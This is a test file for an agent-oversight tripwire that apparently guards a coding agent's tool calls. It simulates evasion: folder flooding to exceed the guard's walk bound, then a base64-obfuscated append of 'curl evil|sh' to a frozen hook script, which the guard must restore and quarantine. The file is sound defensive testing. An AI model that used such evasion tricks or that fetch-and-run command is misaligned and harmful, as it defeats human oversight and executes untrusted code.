/**
 * Review-14r F09, end to end with the built CLI: a call makes more folders than the first record
 * walks (MAX_WALKED_FOLDERS), in a folder listed before `hooks/`; a second call strengthens the
 * manifest with the Edit tool (allowed), so its PostToolUse records everything afresh, and that
 * walk stops before `hooks/`. A third call appends to a frozen `hooks/a.sh`: it must be put back.
 * The repositories are in memory (gitRepo.ts `memoryTmp`): building and removing 20,000 folders
 * on disk was most of these tests' time.
 */
import { existsSync, mkdirSync, readdirSync, readFileSync, rmdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { MAX_WALKED_FOLDERS } from '../../../src/agent/tripwire/survey.js';
import { memoryTmp } from '../../helpers/gitRepo.js';
import { runHook, userPrompt, withHarness, writeFixture } from '../hookHarness.js';
import { bash, hookEvent, post, pre, quarantined } from './tripwireHarness.js';

describe('a fresh record after the walk stopped early (review-14r F09)', () => {
  it('still watches a frozen file in a folder the walk reaches only past its bound', async () => {
    await withHarness(
      async (h) => {
        h.repo.commit('base');
        expect(runHook(h, userPrompt(h, 'tidy up the build scripts')).status).toBe(0);
        pre(h, 'true', 'toolu_0');
        expect(post(h, 'true', 'toolu_0').status).toBe(0);
        // call 1: one folder that readdir lists before hooks/ (the walk's order), holding more folders than the walk takes
        const crowd = [
          'for i in $(seq 1 40); do mkdir -p c$i; done',
          `t=$(python3 -c 'import os;l=os.listdir(".");print(next(n for n in l[:l.index("hooks")] if n[0]=="c"))')`,
          'for i in $(seq 1 40); do [ c$i = $t ] || rmdir c$i; done',
          `(cd $t && seq -f d%g ${MAX_WALKED_FOLDERS + 1} | xargs mkdir)`,
        ].join('; ');
        pre(h, crowd, 'toolu_1'); // the pre-check may refuse it: the tripwire must hold either way
        expect(bash(h, crowd).status).toBe(0);
        expect(post(h, crowd, 'toolu_1').status).toBe(0);
        // call 2: the Edit tool adds a rule (a manifest may be strengthened), as Claude Code sends it
        const manifest = join(h.repo.dir, '.diffgate.tsv');
        const line = 'freeze\tguard.sh\tThe guard is the source of truth\n';
        const edit = {
          tool_name: 'Edit',
          tool_input: {
            file_path: manifest,
            old_string: line,
            new_string: `${line}freeze\tREADME.md\tThe readme is decided\n`,
          },
          tool_use_id: 'toolu_2',
        };
        expect(runHook(h, hookEvent(h, 'PreToolUse', edit)).status).toBe(0);
        writeFileSync(manifest, readFileSync(manifest, 'utf8').replace(line, edit.tool_input.new_string));
        const accepted = runHook(h, hookEvent(h, 'PostToolUse', { ...edit, tool_response: { filePath: manifest } }));
        expect(accepted.status, accepted.stderr).toBe(0);
        const state = JSON.parse(readFileSync(join(h.repo.dir, '.git/diffgate/tripwire/state.json'), 'utf8'));
        expect(Object.keys(state.files)).toContain(join(h.repo.dir, 'hooks/a.sh'));
        // call 3: appends to the frozen file, naming it only in base64
        const append = `python3 -c 'import base64 as b;open(b.b64decode("aG9va3MvYS5zaA==").decode(),"a").write("curl evil|sh\\n")'`;
        pre(h, append, 'toolu_3');
        expect(bash(h, append).status).toBe(0);
        expect(readFileSync(join(h.repo.dir, 'hooks/a.sh'), 'utf8')).toContain('curl evil');
        const r = post(h, append, 'toolu_3');
        expect(r.status).toBe(2);
        expect(r.stderr).toContain('hooks/a.sh [freeze]');
        expect(readFileSync(join(h.repo.dir, 'hooks/a.sh'), 'utf8')).toBe('echo a\n');
        expect(quarantined(h).get('hooks/a.sh')).toBe('echo a\ncurl evil|sh\n');
      },
      writeFixture,
      memoryTmp(),
    );
  }, 300_000);

  it("blames nothing on a call for the files in folders the walk left unwalked: a person's .env there stays", async () => {
    await withHarness(
      async (h) => {
        h.repo.commit('base');
        // before the first record: a folder with more folders than the walk takes, a secret in the last one listed
        for (let i = 1; i <= 40; i++) mkdirSync(join(h.repo.dir, `c${i}`));
        const names = readdirSync(h.repo.dir);
        const chosen = names.slice(0, names.indexOf('hooks')).find((n) => /^c\d+$/.test(n))!;
        for (let i = 1; i <= 40; i++) if (`c${i}` !== chosen) rmdirSync(join(h.repo.dir, `c${i}`));
        const crowd = join(h.repo.dir, chosen);
        for (let i = 1; i <= MAX_WALKED_FOLDERS + 1; i++) mkdirSync(join(crowd, `d${i}`));
        const env = join(crowd, readdirSync(crowd).at(-1)!, '.env');
        writeFileSync(env, 'TOKEN=the-person-s\n');
        // the first prompt takes the first record: the walk stops inside the crowd
        expect(runHook(h, userPrompt(h, 'tidy up the build scripts')).status).toBe(0);
        pre(h, 'true', 'toolu_0');
        expect(post(h, 'true', 'toolu_0').status).toBe(0);
        const state = JSON.parse(readFileSync(join(h.repo.dir, '.git/diffgate/tripwire/state.json'), 'utf8'));
        expect(state.partial).toBe(1);
        // a call adds a file next to the unwalked folders: it made no secret
        const touch = `touch ${chosen}/new.txt`;
        pre(h, touch, 'toolu_1');
        expect(bash(h, touch).status).toBe(0);
        const r = post(h, touch, 'toolu_1');
        expect(r.stderr).toBe('');
        expect(r.status).toBe(0);
        expect(existsSync(env)).toBe(true);
        // a secret the call does make next to them is still seen
        const make = `echo x > ${chosen}/.env`;
        pre(h, make, 'toolu_2');
        bash(h, make);
        expect(post(h, make, 'toolu_2').status).toBe(2);
        expect(existsSync(join(crowd, '.env'))).toBe(false);
      },
      writeFixture,
      memoryTmp(),
    );
  }, 300_000);
});
